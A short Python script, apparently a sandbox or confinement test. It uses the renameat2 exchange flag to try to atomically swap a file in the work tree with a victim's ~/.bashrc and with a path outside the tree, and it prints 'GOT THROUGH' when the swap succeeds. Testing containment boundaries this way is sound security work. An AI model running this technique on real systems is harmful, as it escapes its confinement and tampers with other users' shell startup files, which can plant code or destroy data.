# Exchanging a file of the work tree with one outside.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
open("mine", "w").write("x")
for theirs in (os.environ["VICTIM_HOME"] + "/.bashrc", os.environ["OUTSIDE"] + "/target"):
    if libc.renameat2(-100, b"mine", -100, theirs.encode(), 2) == 0:
        print("GOT THROUGH:", theirs)
